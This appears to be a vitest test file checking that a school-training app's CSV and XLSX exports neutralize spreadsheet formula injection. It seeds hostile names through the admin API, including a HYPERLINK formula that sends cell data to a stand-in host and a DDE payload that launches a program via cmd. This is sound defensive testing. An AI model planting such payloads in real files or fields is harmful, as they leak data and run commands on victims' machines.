/**
 * Exports are safe to open in Excel: a cell that starts with = + - @ (or a tab or CR) never runs as
 * a formula — CSV prefixes it with an apostrophe, XLSX writes it as an inline string with no formula.
 * Checked on every export route, with hostile names entered through the admin API.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import type { IssuedToken } from '../../shared/api/responses.js';
import { neutralize, toCsv } from '../../worker/export/csv.js';
import { toXlsx } from '../../worker/export/xlsx.js';
import {
  buildWorkbook,
  call,
  makeId,
  newKey,
  passingTrainings,
  seedTenants,
  type TeacherSpec,
  TOKENS,
  testApp,
  YEAR,
} from './helpers.js';
import { parseCsv, sheetCells, unzipText } from './security-kit.js';

const app = testApp();
const FORMULA_START = /^[=+\-@\t\r]/;

const BUREAU = { id: 'fx', name: '=HYPERLINK("http://evil.example/?"&A1,"点击查看")' };
const SCHOOLS = [
  { code: '+3201', name: '=1+1', type: '@SUM(A1:A9)', rural: false },
  { code: '-3202', name: "+cmd|' /C calc'!A0", type: '小学', rural: true },
  { code: '@3203', name: '-2+3', type: '=2*3', rural: false },
  { code: '3204', name: '@SUM(1,2)', type: '初中', rural: false },
];
const HOSTILE = [BUREAU.name, ...SCHOOLS.flatMap((s) => [s.code, s.name, s.type])];

let reviewer = '';

async function issue(body: unknown): Promise<string> {
  const res = await call(app, 'POST', '/api/v1/admin/tokens', { token: TOKENS.admin, body });
  expect(res.status).toBe(201);
  return (await res.json<IssuedToken>()).token;
}

const EXPORTS = (): { path: string; token: () => string }[] => [
  { path: `/api/v1/bureau/export?year=${YEAR}`, token: () => reviewer },
  { path: `/api/v1/bureau/exports/summary?year=${YEAR}`, token: () => reviewer },
  { path: `/api/v1/bureau/exports/teachers?year=${YEAR}`, token: () => reviewer },
  { path: `/api/v1/admin/export?year=${YEAR}&bureau=${BUREAU.id}`, token: () => TOKENS.admin },
];

/** A plain number (a count, hours) is data Excel reads as a number, whatever its sign. */
const NUMBER = /^-?\d+(\.\d+)?$/;

function expectSafeCsv(bytes: Uint8Array): string[] {
  expect([...bytes.subarray(0, 3)], 'UTF-8 BOM').toEqual([0xef, 0xbb, 0xbf]);
  const fields = parseCsv(new TextDecoder('utf-8', { fatal: true, ignoreBOM: true }).decode(bytes)).flat();
  for (const f of fields) if (!NUMBER.test(f)) expect(f, `CSV field ${JSON.stringify(f)}`).not.toMatch(FORMULA_START);
  return fields;
}

async function expectSafeXlsx(bytes: Uint8Array): Promise<string[]> {
  const files = await unzipText(bytes);
  const sheet = files.get('xl/worksheets/sheet1.xml');
  expect(sheet).toBeDefined();
  const cells = sheetCells(sheet!);
  expect(cells.length).toBeGreaterThan(0);
  for (const c of cells) {
    expect(c.formula, `cell ${c.ref}`).toBeNull();
    if (FORMULA_START.test(c.text)) expect(c.type, `cell ${c.ref} ${JSON.stringify(c.text)}`).toBe('inlineStr');
  }
  return cells.map((c) => c.text);
}

describe('formula injection in exports', () => {
  beforeAll(async () => {
    await seedTenants();
    expect((await call(app, 'POST', '/api/v1/admin/bureaus', { token: TOKENS.admin, body: BUREAU })).status).toBe(201);
    for (const s of SCHOOLS) {
      expect(
        (await call(app, 'POST', '/api/v1/admin/schools', { token: TOKENS.admin, body: { ...s, bureauId: BUREAU.id } }))
          .status,
      ).toBe(201);
    }
    reviewer = await issue({ role: 'reviewer', bureauId: BUREAU.id, label: '=reviewer' });
    // Two schools submit, so teacher rows carry the hostile school names too.
    for (const [i, s] of SCHOOLS.slice(0, 2).entries()) {
      const clerk = await issue({ role: 'clerk', schoolCode: s.code, label: '-clerk' });
      const teachers: TeacherSpec[] = [{ name: '孙八', id: makeId(40 + i, '男'), gender: '男' }];
      const res = await call(app, 'POST', '/api/v1/submissions', {
        token: clerk,
        body: {
          year: YEAR,
          workbook: buildWorkbook({ code: s.code, name: '公式学校' }, teachers, passingTrainings(teachers[0]!)),
        },
        headers: { 'Idempotency-Key': newKey() },
      });
      expect(res.status, await res.clone().text()).toBe(201);
    }
  });

  for (const e of EXPORTS()) {
    it(`should prefix every formula-like CSV field with an apostrophe: ${e.path.split('?')[0]}`, async () => {
      const res = await call(app, 'GET', `${e.path}&format=csv`, { token: e.token() });
      expect(res.status).toBe(200);
      expect(res.headers.get('Content-Type')).toContain('text/csv');
      const fields = expectSafeCsv(new Uint8Array(await res.arrayBuffer()));
      const shown = HOSTILE.filter((h) => fields.includes(`'${h}`));
      expect(shown.length, 'hostile values present in this export').toBeGreaterThan(0);
    });

    it(`should write every formula-like XLSX cell as an inline string, never a formula: ${e.path.split('?')[0]}`, async () => {
      const res = await call(app, 'GET', `${e.path}&format=xlsx`, { token: e.token() });
      expect(res.status).toBe(200);
      const texts = await expectSafeXlsx(new Uint8Array(await res.arrayBuffer()));
      expect(HOSTILE.filter((h) => texts.includes(h)).length, 'hostile values present as plain text').toBeGreaterThan(
        0,
      );
    });
  }

  it('should neutralize a leading tab and CR as well as = + - @, and leave other text alone', async () => {
    const hostile = ['=1+1', '+1', '-1', '@A1', '\t=1+1', '\r=1+1', '\r\n=1'];
    for (const h of hostile) expect(neutralize(h)).toBe(`'${h}`);
    for (const fine of ['张三', '1-2', 'a=b', " '=1", '']) expect(neutralize(fine)).toBe(fine);
    const fields = expectSafeCsv(new TextEncoder().encode(toCsv([hostile, ['含"引号",和逗号', -5]])));
    expect(fields).toEqual([...hostile.map((h) => `'${h}`), '含"引号",和逗号', '-5']);
    const texts = await expectSafeXlsx(await toXlsx([hostile], 'x'));
    expect(texts).toEqual(hostile);
  });
});
